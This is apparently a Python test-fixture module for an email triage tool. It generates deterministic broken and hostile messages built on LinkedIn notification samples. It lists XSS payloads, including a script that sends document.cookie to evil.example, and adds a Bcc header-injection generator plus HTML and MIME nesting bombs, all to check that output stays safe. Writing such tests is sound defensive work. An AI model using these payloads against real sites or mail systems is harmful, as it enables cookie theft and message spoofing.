"""Broken and hostile mail, generated: what a pass must survive without losing a message.

Each generator takes a good LinkedIn notification (from triage.samples) or
nothing and returns raw bytes that are broken in one specific way. The set is
deterministic for a seed so a failure can be replayed.
"""

from __future__ import annotations

import random
from collections.abc import Callable

from triage import samples
from triage.samples import Person

# Strings that must never be live in the summary HTML.
HOSTILE_NOTES = [
    "<script>document.location='https://evil.example/'+document.cookie</script> great to meet you",
    "<img src=x onerror=alert(1)> we met at the Bristol breakfast",
    '<a href="javascript:alert(1)">see my profile</a>',
    "<style>body{display:none}</style> hi Sam",
    '" onmouseover="alert(1)" data-x="',
    "\u202eelgnis ym ot emoclew\u202c check my page",
    "Нi Ѕam, it's Dаna from the ops breakfast (lookalike letters)",
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1)) and <b>bold</b> &amp; &lt;entities&gt;",
]


def _header_injection(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"Subject: ", b"Subject: hi\r\nBcc: victim@example.org\r\nX-Injected: 1\r\nX-Subject: ", 1)


def _truncate(base: bytes, rng: random.Random) -> bytes:
    return base[: rng.randrange(10, max(11, len(base) - 1))]


def _no_boundary(base: bytes, rng: random.Random) -> bytes:
    head, _, body = base.partition(b"\r\n\r\n")
    return head + b"\r\n\r\n" + body.replace(b"--", b"", 3)


def _wrong_boundary(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b'boundary="', b'boundary="nope', 1)


def _wrong_charset(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"utf-8", rng.choice([b"x-unknown-9", b"utf-7", b"iso-2022-jp", b"us-ascii"]))


def _nulls(base: bytes, rng: random.Random) -> bytes:
    out = bytearray(base)
    for _ in range(20):
        out.insert(rng.randrange(len(out)), 0)
    return bytes(out)


def _long_line(base: bytes, rng: random.Random) -> bytes:
    head, _, body = base.partition(b"\r\n\r\n")
    return head + b"\r\n\r\n" + b"A" * 50_000 + b"\r\n" + body


def _huge_part(base: bytes, rng: random.Random) -> bytes:
    head, _, body = base.partition(b"\r\n\r\n")
    big = b"\r\n".join([b"x" * 998] * 20_000)  # about 20 MB in one part
    return head + b"\r\n\r\n" + big + b"\r\n" + body


def _html_bomb(base: bytes, rng: random.Random) -> bytes:
    nested = b"<div>" * 50_000 + b"hello" + b"</div>" * 50_000
    return (b"From: Dana Whitlock via LinkedIn <invitations@linkedin.com>\r\n"
            b"Subject: Dana Whitlock wants to connect\r\nMessage-ID: <bomb-%d@example>\r\n"
            b"Content-Type: text/html; charset=utf-8\r\n\r\n" % rng.randrange(10**9) + nested)


def _binary(base: bytes, rng: random.Random) -> bytes:
    return bytes(rng.randrange(256) for _ in range(rng.randrange(100, 5000)))


def _headers_only(base: bytes, rng: random.Random) -> bytes:
    return base.partition(b"\r\n\r\n")[0] + b"\r\n"


def _bad_base64(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"Content-Transfer-Encoding: quoted-printable", b"Content-Transfer-Encoding: base64")


def _bad_encoded_words(base: bytes, rng: random.Random) -> bytes:
    return base.replace(b"Subject: ", b"Subject: =?utf-8?B?!!!notbase64?= =?x-bad?Q?=ZZ?= ", 1)


def _deep_multipart(base: bytes, rng: random.Random) -> bytes:
    parts = [b"Content-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%d\r\n" % (i, i) for i in range(300)]
    return (b"From: Dana Whitlock via LinkedIn <invitations@linkedin.com>\r\nSubject: deep\r\n"
            b"Message-ID: <deep-%d@example>\r\nMIME-Version: 1.0\r\n" % rng.randrange(10**9) + b"".join(parts) + b"end\r\n")


BREAKERS: list[Callable[[bytes, random.Random], bytes]] = [
    _header_injection, _truncate, _no_boundary, _wrong_boundary, _wrong_charset, _nulls, _long_line,
    _huge_part, _html_bomb, _binary, _headers_only, _bad_base64, _bad_encoded_words, _deep_multipart,
]


def hostile_mails(n: int = 200, seed: int = 0) -> list[bytes]:
    """n broken or hostile mails: hostile notes in well-formed mail, and broken forms of good mail."""
    rng = random.Random(seed)
    out: list[bytes] = []
    for i in range(n):
        person = Person(f"Hostile Sender {i}", "Growth | <b>Sales</b>", "Nowhere")
        note = rng.choice(HOSTILE_NOTES)
        kind = rng.random()
        if kind < 0.3:
            out.append(samples.invitation_email(person, note[:300], seed=10_000 + i))
        elif kind < 0.4:
            out.append(samples.inmail_email(person, note[:80], note, seed=10_000 + i))
        else:
            base = samples.invitation_email(person, note[:300], seed=10_000 + i)
            breaker = BREAKERS[i % len(BREAKERS)]
            if breaker is _huge_part and i >= len(BREAKERS) * 2:
                breaker = _long_line  # two 20 MB mails are enough to prove the point
            out.append(breaker(base, rng))
    return out
